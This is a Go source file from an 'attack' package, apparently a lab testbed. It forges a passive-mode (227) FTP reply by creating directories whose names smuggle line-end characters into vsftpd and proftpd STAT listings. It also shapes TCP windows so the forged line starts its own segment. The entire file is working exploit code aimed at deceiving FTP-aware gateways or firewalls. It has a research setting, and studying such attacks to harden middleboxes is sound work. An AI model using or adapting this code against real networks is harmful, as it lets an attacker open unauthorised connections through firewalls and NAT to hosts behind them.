package attack

import (
	"context"
	"errors"
	"fmt"
	"net/netip"
	"strings"

	"github.com/ftpalg/ftpalg/deploy/lab"
)

// The clients that give real servers strange names have two of these ports each. They lie
// below those that the kernel hands out.
const strangePort = 19902

// lister is a real FTP server that writes the names of files raw on the control connection.
type lister struct {
	code   string // of its reply to STAT
	said   string // what in a command makes the end of a line in a name
	listed string // as what STAT shows that
	client uint16 // a port
}

// vsftpd ends a command at NUL, too, but puts a LF in the place of one, and keeps a CR.
// proftpd ends a command at CR LF alone.
var (
	vsftpd  = lister{"213", "\r\x00", "\r\n", strangePort}
	proftpd = lister{"212", "\n", "\n", strangePort + 2}
)

// answer makes the server write a 227 that a client has thought out, as the name of a
// directory in a listing. Another name there ends the reply before. The client's window
// ends in between, so that the 227 begins a segment, after PASV.
func (l lister) answer(ctx context.Context, s *scene) (cell Cell, err error) {
	a := s.target.Addr().As4()
	line := fmt.Sprintf("227 Entering Passive Mode (%d,%d,%d,%d,%d,%d)", a[0], a[1], a[2], a[3], s.port>>8, s.port&255)
	name := func(end string) string { return "a" + end + l.code + " x" + end }
	plain, weird := "plain-"+l.code, "weird-"+l.code // the servers have one home
	played := func() error {
		err := l.session(ctx, s, l.client, func(p *puppet) error {
			for _, dir := range []string{plain, plain + "/a", weird, weird + "/" + name(l.said) + line} {
				if _, err := p.ask(ctx, "MKD "+dir, "\r\n257 ", "created\r\n"); err != nil {
					return err
				}
			}
			return nil
		})
		if err != nil {
			return err
		}
		return l.session(ctx, s, l.client+1, func(p *puppet) error {
			listing, err := p.ask(ctx, "STAT "+plain, "\r\n"+l.code+" End", "\r\n")
			if err != nil {
				return err
			}
			before, _, ok := strings.Cut(listing, " a\r\n") // the other begins alike
			if !ok {
				return fmt.Errorf("look for a in the listing %q: %w", listing, errSilent)
			}
			begins := before + " " + name(l.listed)
			// A smaller window is believed of a segment that goes beyond the last (RFC 9293,
			// section 3.10.7.4: SND.WL1), so the command has two.
			if err := p.say(ctx, "STAT "); err != nil {
				return err
			}
			p.shut, p.limit = true, p.want+uint32(len(begins))
			if err := p.say(ctx, weird+"\r\n"); err != nil {
				return err
			}
			if _, err := p.listen(ctx, name(l.listed)); err != nil {
				return err
			}
			if err := p.say(ctx, "PASV\r\n"); err != nil {
				return err
			}
			p.shut = false
			if err := p.ack(); err != nil {
				return err
			}
			_, err = p.listen(ctx, line)
			return err
		})
	}
	return s.tryAfter(ctx, played())
}

// session logs in from a port of the client's, and does something there.
func (l lister) session(ctx context.Context, s *scene, port uint16, do func(*puppet) error) (err error) {
	s.control = netip.AddrPortFrom(s.Client.IPv4, port)
	p, err := newPuppet(ctx, s.Client, s.control, netip.AddrPortFrom(s.target.Addr(), 21))
	if err != nil {
		return err
	}
	defer func() { err = errors.Join(err, p.close()) }()
	if err := p.connect(ctx); err != nil {
		return err
	}
	for _, said := range [][2]string{{"", "\r\n220 "}, {"USER " + lab.User, "\r\n331 "}, {"PASS " + lab.Password, "\r\n230 "}} {
		if _, err := p.ask(ctx, said[0], said[1], "\r\n"); err != nil {
			return err
		}
	}
	return do(p)
}
